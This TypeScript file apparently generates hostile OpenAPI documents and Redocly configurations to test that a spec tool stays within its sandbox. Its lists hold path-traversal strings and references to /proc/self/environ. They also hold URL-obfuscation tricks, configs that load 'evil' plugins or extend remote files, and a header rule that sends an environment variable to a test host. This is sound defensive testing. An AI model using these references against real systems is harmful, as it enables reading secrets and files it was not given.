import type { Random } from '../random.ts';

/** What a document may not lead to: a host, and a file outside of its folder. */
export interface Targets {
  /** Ends with `/`. */
  readonly url: string;
  /** An absolute path. */
  readonly outside: string;
}

/** Ways to name a target that no document may read. */
const REFERENCES: readonly ((targets: Targets) => string)[] = [
  ({ url }) => `${url}evil.json`,
  ({ url }) => `${url}evil.yaml#/components/schemas/A`,
  ({ url }) => `${url.replace('http', 'HTTP')}evil.json`,
  ({ url }) => `${url.replace('http:', '')}evil.json`,
  ({ url }) => `${url.replace('//', '//user:secret@')}evil.json`,
  ({ url }) => `${url.replace('127.0.0.1', 'localhost')}evil.json`,
  ({ url }) => `${url.replace('http://', 'http:/\\')}evil.json`,
  ({ url }) => `./${url}evil.json`,
  ({ url }) => ` ${url}evil.json`,
  ({ url }) => url.replaceAll('/', '\\'),
  ({ url }) => `data:application/json,{"$ref":"${url}evil.json"}`,
  ({ outside }) => outside,
  ({ outside }) => `file://${outside}`,
  ({ outside }) => `${outside}#/secret`,
  () => '../../outside.json',
  () => '../../outside.json#/secret',
  () => '..%2f..%2foutside.json',
  () => '%2e%2e/%2e%2e/outside.json',
  () => './../pets/../../outside.json',
  () => 'link.json',
  () => 'folder-link/outside.json#/secret',
  () => '/proc/self/environ',
  () => '/proc/self/cmdline',
  () => '.',
  () => 'openapi.yaml/../../../outside.json',
];

/** Places of a document that hold a reference, as YAML at their depth. */
const PLACES: readonly ((reference: string) => string)[] = [
  (at) => `components: { schemas: { A: ${at} } }`,
  (at) => `components: { schemas: { A: { type: object, properties: { a: ${at} } } } }`,
  (at) => `components: { schemas: { A: { oneOf: [${at}] } } }`,
  (at) => `components: { schemas: { A: { type: object, example: ${at} } } }`,
  (at) => `components: { schemas: { A: { x-note: ${at} } } }`,
  (at) => `components: { schemas: { A: { $defs: { a: ${at} } } } }`,
  (at) => `components: { parameters: { A: ${at} } }`,
  (at) => `components: { responses: { A: ${at} } }`,
  (at) => `components: { requestBodies: { A: ${at} } }`,
  (at) => `components: { headers: { A: ${at} } }`,
  (at) => `components: { examples: { A: ${at} } }`,
  (at) => `components: { links: { A: ${at} } }`,
  (at) => `components: { callbacks: { A: ${at} } }`,
  (at) => `components: { pathItems: { A: ${at} } }`,
  (at) => `components: { securitySchemes: { A: ${at} } }`,
  (at) => `x-tool: { a: [${at}] }`,
  (at) => `tags: [${at}]`,
  (at) => `servers: [${at}]`,
  (at) => `webhooks: { a: ${at} }`,
];

const HEAD =
  'openapi: 3.1.0\ninfo: { title: Pets, version: "1", license: { name: MIT, identifier: MIT } }\npaths: {}\n';

/** A document that leads to a target where it may not, in one of its places and of many forms. */
export function evilDocument(choice: Random, targets: Targets): string {
  const reference = JSON.stringify(choice.pick(REFERENCES)(targets));
  const form = choice.pick([
    `{ $ref: ${reference} }`,
    `{ $ref: ${reference}, description: a }`,
    `{ "$ref": ${reference} }`,
    `{ externalValue: ${reference} }`,
    `{ $dynamicRef: ${reference} }`,
    `{ $schema: ${reference} }`,
    `{ $id: ${reference} }`,
    `{ discriminator: { propertyName: a, mapping: { a: ${reference} } } }`,
    `{ operationRef: ${reference} }`,
    `{ url: ${reference} }`,
  ]);
  return `${HEAD}${choice.pick(PLACES)(form)}\n`;
}

/** Configurations of Redocly that run code, read files, send requests or read variables; each with what is wrong named. */
const CONFIGURATIONS: readonly ((targets: Targets) => string)[] = [
  () => 'plugins: [./evil.mjs]',
  () => 'plugins: [../evil.mjs]',
  () => 'plugins: [evil-plugin]',
  () => 'plugins: [./evil.cjs]\nrules: { evil/a: error }',
  () => 'extends: [recommended, evil/all]\nplugins: [./evil.mjs]',
  () => 'extends: [evil/all]',
  () => 'extends: [./other.yaml]',
  () => 'extends: [../../outside.json]',
  ({ outside }) => `extends: [${outside}]`,
  ({ url }) => `extends: ['${url}config.yaml']`,
  ({ url }) => `extends: [recommended, '${url}config.yaml']`,
  ({ url }) => `rules: { $ref: '${url}rules.yaml' }`,
  ({ url }) => `rules: { rule/a: { $ref: '${url}rules.yaml' } }`,
  ({ url }) => `rules: { rule/a: { subject: { type: Info }, assertions: { $ref: '${url}a' } } }`,
  ({ url }) => `$ref: '${url}config.yaml'`,
  ({ url }) =>
    `resolve: { http: { headers: [{ matches: '${url}**', name: X-Exfil, envVariable: CANARY }] } }`,
  ({ url }) =>
    `resolve: { doNotResolveExamples: false, http: { headers: [{ matches: '${url}**', name: a, value: b }] } }`,
  () => 'preprocessors: { evil/a: on }\nplugins: [./evil.mjs]',
  () => 'decorators: { info-description-override: { filePath: ../../outside.json } }',
  () => 'decorators: { evil/a: on }',
  () => 'apis: { pets: { root: openapi.yaml, plugins: [./evil.mjs] } }',
  () => 'overrides: []',
  ({ url }) => `telemetry: on\nresolve: { http: { headers: [] } }\nextends: ['${url}']`,
  () => 'scorecard: { levels: [{ name: a, extends: [./other.yaml] }] }',
  () => 'oas3_1Rules: { struct: off }\nplugins: [./evil.mjs]',
  () => '<<: &a { plugins: [./evil.mjs] }',
  () => '"plug\\u0069ns": [./evil.mjs]',
  () => '? plugins\n: - ./evil.mjs',
];

/** A `redocly.yaml` that reaches outside of itself. */
export function evilConfiguration(choice: Random, targets: Targets): string {
  return `${choice.pick(CONFIGURATIONS)(targets)}\n`;
}
